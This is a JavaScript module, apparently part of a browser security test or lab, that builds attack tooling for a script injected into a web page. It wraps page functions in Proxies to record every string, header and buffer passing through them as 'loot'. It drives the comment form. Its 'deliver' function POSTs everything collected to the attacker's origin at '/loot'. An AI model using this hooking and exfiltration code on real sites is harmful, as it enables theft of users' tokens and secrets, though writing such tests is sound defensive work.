/**
 * Returns the tools of an attack. The function runs in the page, before the page's own scripts, and refers to nothing else.
 *
 * The tools know no token. They keep everything that an attack sees, by the place where it was seen; the test or the lab
 * looks for genuine secrets in that. So one attack can take a token from a weak page, and would from ours if ours were weak.
 *
 * `target` describes the application: the path of its worker's script (`script`), the attacker's origin (`evil`), the path
 * of the attacker's upload (`upload`), two careless handlers (`echo`, `redirect`), and the text to write (`note`).
 */
export function tools(target) {
  const loot = new Map();
  const { fetch, setTimeout, JSON, ArrayBuffer, Headers, Request } = window;
  const stringify = JSON.stringify;
  const fromCharCode = String.fromCharCode;

  const latin1 = (value) => {
    const bytes = value instanceof ArrayBuffer ? new Uint8Array(value) : new Uint8Array(value.buffer, value.byteOffset, value.byteLength);
    let text = '';
    for (let at = 0; at < bytes.length && at < 200_000; at++) text += fromCharCode(bytes[at]);
    return text;
  };
  /** Keeps every text in `value`, at most six levels deep. */
  const keep = (place, value, depth = 0) => {
    if (depth > 6 || value === null || value === undefined) return;
    if (!loot.has(place)) loot.set(place, new Set());
    if (typeof value === 'string') loot.get(place).add(value);
    else if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) loot.get(place).add(latin1(value));
    else if (value instanceof Headers) for (const pair of value) keep(place, pair, depth + 1);
    else if (value instanceof Request) keep(place, [value.url, value.headers], depth + 1);
    else if (value instanceof Error) keep(place, [value.name, value.message, value.stack], depth + 1);
    else if (typeof value === 'object') {
      for (const key of Object.getOwnPropertyNames(value)) {
        try {
          keep(place, value[key], depth + 1);
        } catch {}
      }
    }
  };
  /** Keeps what goes into a function and what comes out of it. */
  const wrap = (owner, name) => {
    const original = owner?.[name];
    if (typeof original !== 'function') return;
    owner[name] = new Proxy(original, {
      apply(target, self, args) {
        keep(name, args);
        const result = Reflect.apply(target, self, args);
        if (result instanceof Promise) then.call(result, (value) => keep(name, value), () => {});
        else keep(name, result);
        return result;
      },
      construct(target, args, newTarget) {
        keep(name, args);
        return Reflect.construct(target, args, newTarget === owner[name] ? target : newTarget);
      },
    });
  };
  const { then } = Promise.prototype;
  const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  /** Returns what `act` returns, or the name of its error, or 'silence' if it does not end in time: that is no refusal. */
  const attempt = (act, patience = 5000) => {
    const patient = pause(patience).then(() => 'silence');
    // Code that the debugger calls may use eval. Code that a timer calls is subject to the page's policy.
    const tried = pause(0).then(act).then((said) => said ?? 'done', (error) => error?.name ?? 'error');
    return Promise.race([tried, patient]);
  };
  /** Uses the application as a person would: writes a comment, and waits until the page shows it. */
  const work = async (text = target.note ?? `note ${Math.random()}`, patience = 5000) => {
    document.querySelector('#write [name=text]').value = text;
    document.querySelector('#write button').click();
    for (const end = performance.now() + patience; performance.now() < end; await pause(20)) {
      if (document.querySelector('#notes .text')?.textContent === text) return 'written';
    }
    return 'not written';
  };
  /** Returns everything that was seen, and tries to send it to the attacker's server too. */
  const deliver = async () => {
    const seen = Object.fromEntries([...loot].map(([place, texts]) => [place, [...texts]]));
    const sent = fetch(`${target.evil}/loot`, { method: 'POST', mode: 'no-cors', body: stringify(seen) });
    await Promise.race([sent.catch(() => {}), pause(3000)]);
    return seen;
  };
  return { ...target, keep, wrap, pause, attempt, work, deliver };
}
